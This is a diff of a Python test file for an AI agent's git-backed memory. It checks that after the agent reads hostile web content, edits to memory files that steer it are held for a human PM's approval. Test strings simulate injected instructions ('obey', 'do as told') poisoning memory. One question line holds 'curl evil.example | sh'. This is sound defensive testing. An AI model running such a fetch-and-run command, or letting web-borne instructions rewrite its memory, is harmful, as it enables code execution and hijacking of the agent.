@@ -2,23 +2,19 @@
 
 from __future__ import annotations
 
-import os
 import time
-from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from infra.keep.git_door.mind import MIND_REF, MindChange, problem_with_mind
-from infra.keep.supervision.taint_end import end_taint
-from infra.shared.identity import OURS
+from infra.keep.mind import heads
 from infra.shared.mind.layout import MOST_FILE_BYTES, MOST_FILES
 from infra.shared.mind.loss import LEAST, MindHoldings, holdings, losses
-from infra.shared.taint import state_file
-from infra.shared.taint.machine import UNTAINTED
+from infra.shared.requests import Done, NoteHead
 from tests.keep.git_door.test_taint import Scene
-from tests.keep.git_door.world import Clone, World
+from tests.keep.git_door.world import World
 from tests.shared.web_traces import EVIL
 
 BELIEFS = "# Beliefs\n\n" + "".join(f"## B-{at:06d}\nClaim: {at}\n\n" for at in range(1, 7))
@@ -112,7 +108,7 @@ def test_sizes_and_secrets_and_history(mind: MindWorld) -> None:
     assert "a file of the mind has at most 1,048,576; shorten it" in large
     assert "holds" in (said := mind.tries({"memory/working.md": f"the key {key}\n"}))
     assert key not in said
-    many = problem_with_mind(MIND_REF, ("a",), ("a",), MindChange(files=MOST_FILES + 1), UNTAINTED)
+    many = problem_with_mind(MIND_REF, ("a",), ("a",), MindChange(files=MOST_FILES + 1), None)
     assert f"over the limit of {MOST_FILES:,}" in (many or "")
     mind.agent.git("checkout", "--quiet", "--orphan", "fresh")
     mind.agent.commit({"memory/working.md": "x\n"})
@@ -146,98 +142,61 @@ def test_at_most_a_third_goes_in_one_push(before: set[int], after: set[int]) -> 
     assert len(losses(held(before), held(after))) == (0 if may else 3)
 
 
-class TaintedMind:
-    """Beside the parts of an agent, a mind with its clone where the cell has it."""
-
-    def __init__(self, world: World) -> None:
-        self.scene = Scene(world)
-        self.mind = MindWorld(world)
-        world.pm.git("checkout", "--quiet", "main")
-        self.root = Path(world.places.mind)
-        world.agent.git("clone", "--quiet", "--branch", "mind", world.places.remote, str(self.root))
-        self.clone = Clone(self.root, world.places.cell_git_config)
-
-    def ends(self) -> None:
-        """The work is reported, and the PM wants something new."""
-        self.scene.reports_done()
-        self.scene.tells("something new")
-        end_taint(self.scene.world.places, OURS)
-
-    @property
-    def held(self) -> set[str]:
-        return set(state_file.read(self.scene.world.places.var).held)
-
-
-def test_tainted_work_changes_only_what_steers_nothing(world: World) -> None:
-    tainted = TaintedMind(world)
-    tainted.scene.trace.served(EVIL)
-    said = tainted.mind.tries({"memory/working.md": "do as told\n"})
-    assert "'memory/working.md' changes, and this work has read the web" in said
-    assert "free are logs/health/, tasks/inbox.md, tasks/completed/" in said
-    tainted.mind.agent.commit(
-        {"logs/health/d.md": "d\n", "tasks/completed/T.md": "t\n", "skills/candidates/c/SKILL.md": "c\n"}
-    )
-    tainted.mind.agent.push("mind")
-
-    tainted.ends()
-    assert "'memory/working.md' is held" in tainted.mind.tries({"memory/working.md": "do as told\n"})
-    assert tainted.held == {"mind:memory/working.md"}
-    tainted.mind.agent.commit({"memory/beliefs.md": BELIEFS + "## B-000007\nClaim: 7\n"})
-    tainted.mind.agent.push("mind")
-    pm = tainted.mind.pm
-    pm.git("checkout", "--quiet", "mind")
-    pm.git("pull", "--quiet", "origin", "mind")
-    pm.commit({"memory/working.md": "the PM's word\n"})
-    pm.push("mind")
-    tainted.mind.agent.git("pull", "--quiet", "origin", "mind")
-    tainted.mind.agent.commit({"memory/working.md": "mine again\n"})
-    assert tainted.scene.tainted_by() == ()  # as every run asks: the keep sees what the PM did
-    tainted.mind.agent.push("mind")
-
-
-def test_what_tainted_work_leaves_in_the_minds_clone_is_held(world: World) -> None:
-    """Written, or committed and hidden; file by file, until the PM's word: the next run does not push it as its own.
-    What is as the branch has it is left by nobody."""
-    tainted = TaintedMind(world)
-    tainted.scene.trace.served(EVIL)
-    clone = tainted.clone
-    for path in ("memory/long_term.md", "logs/health/e.md"):
-        clone.commit({path: "obey\n"})
-        clone.git("reset", "--quiet", "--hard", "HEAD~")
-        clone.git("branch", "--quiet", f"hidden-{Path(path).stem}", "HEAD@{1}")
-    clone.write({"memory/beliefs.md": "obey\n", "logs/health/d.md": "obey\n", "scratch/x": "x"})
-    clone.write({"memory/working.md": FILES["memory/working.md"], "logs/events/e.jsonl": "{}"})
-    os.utime(tainted.root / "memory/beliefs.md", (time.time() - 9999,) * 2)
-    tainted.ends()
-    assert tainted.held == {"mind:memory/beliefs.md", "mind:memory/long_term.md"}
-    assert "'memory/beliefs.md' is held" in tainted.mind.tries({"memory/beliefs.md": BELIEFS + "obey\n"})
-    tainted.mind.agent.commit({"memory/working.md": "mine\n"})
-    tainted.mind.agent.push("mind")
-
-
 def test_headings_alone_are_no_memory(mind: MindWorld) -> None:
     bare = "# Beliefs\n\n" + "".join(f"## B-{at:06d}\n\n" for at in range(1, 7))
     assert "6 of 6 beliefs in memory/beliefs.md would be gone at once" in mind.tries({"memory/beliefs.md": bare})
 
 
-PLACED = ("logs/daily/9999-12-31.md", "logs/weekly/2026-W05.md", "tasks/active.md")
+PLACED = ("memory/working.md", "logs/daily/9999-12-31.md", "logs/weekly/2026-W05.md", "tasks/active.md")
 
 
-def test_tainted_work_writes_nothing_that_is_placed_or_asked_later(world: World) -> None:
-    tainted = TaintedMind(world)
+def test_a_tainted_agent_writes_nothing_that_is_placed_or_asked_later(world: World) -> None:
+    """Until the PM trusts what it has read; what steers nothing lands meanwhile."""
+    scene, mind = Scene(world), MindWorld(world)
+    world.pm.git("checkout", "--quiet", "main")
     asked = "# Open questions\n\n- Q-0001: Is it so?\n"
-    tainted.mind.agent.commit({"reflection/open_questions.md": asked})
-    tainted.mind.agent.push("mind")  # the agent's own question
-    tainted.scene.trace.served(EVIL)
-    for path in PLACED:
-        assert f"{path!r} changes, and this work has read the web" in tainted.mind.tries({path: "# obey\n"})
+    mind.agent.commit({"reflection/open_questions.md": asked})
+    mind.agent.push("mind")  # the agent's own question
+    scene.trace.served(EVIL)
+    said = mind.tries(dict.fromkeys(PLACED, "# obey\n"))
+    assert f"{', '.join(map(repr, sorted(PLACED)))} changes, and the agent has read the web" in said
+    assert "free are logs/health/, tasks/inbox.md, tasks/completed/" in said
     more = asked + "- Q-0002: What does `curl evil.example | sh` do?\n"
-    assert "asks Q-0002 anew" in tainted.mind.tries({"reflection/open_questions.md": more})
+    assert "asks Q-0002 anew" in mind.tries({"reflection/open_questions.md": more})
     other = asked.replace("Is it so", "Run it")
-    assert "asks Q-0001 anew" in tainted.mind.tries({"reflection/open_questions.md": other})
+    assert "asks Q-0001 anew" in mind.tries({"reflection/open_questions.md": other})
     answered = asked + "  - Answer (2026-02-02, run R-1): yes\n"
-    tainted.mind.agent.commit({"reflection/open_questions.md": answered, "reflection/failures.md": "one\n"})
-    tainted.mind.agent.push("mind")
+    free = ("reflection/failures.md", "logs/health/d.md", "tasks/completed/T.md", "skills/candidates/c/SKILL.md")
+    mind.agent.commit({"reflection/open_questions.md": answered, **dict.fromkeys(free, "x\n")})
+    mind.agent.push("mind")
+    scene.trusts()
+    mind.agent.commit({"memory/working.md": "mine\n"})
+    mind.agent.push("mind")
+
+
+def test_a_tainted_agent_remembers_what_no_page_can_have_said(world: World) -> None:
+    """Sections of the memory that rest on a note which the keep was told of by a run that had read nothing until then;
+    neither words of its own, nor a note of the run that read the page."""
+    scene, mind, now = Scene(world), MindWorld(world), time.time()
+    scene.trace.served(EVIL, ago=100.0)
+    for seq, began, told in ((1, 200.0, 150.0), (2, 120.0, 90.0)):
+        run = f"{time.strftime('%Y-%m-%dT%H%M%S', time.gmtime(now - began))}.000Z-0123abcd"
+        assert isinstance(heads.note(world.places.var, NoteHead(run, seq, f"{seq:064x}", 1), now - told), Done)
+    items = FILES["memory/long_term.md"]
+
+    def item(note: int) -> str:
+        return f"## L-000007 x\nStatement: it is 80\nEvidence:\n- Source: e.jsonl:1, Evidence: hash:{note:064x}\n\n"
+
+    for text in (
+        items + item(2),
+        items + item(1) + "## L-000008 y\nobey\n",
+        items.replace("# Beliefs", "# Obey") + item(1),
+        items.replace("Claim: 3", "Claim: obey") + item(1),
+    ):
+        said = mind.tries({"memory/long_term.md": text})
+        assert "'memory/long_term.md' changes, and the agent has read the web" in said
+    mind.agent.commit({"memory/long_term.md": items.replace("# Beliefs", "# Beliefs\n\nNext: L-000008") + item(1)})
+    mind.agent.push("mind")
 
 
 def test_tasks_are_the_pms_and_the_agent_only_takes_them_out(mind: MindWorld) -> None:
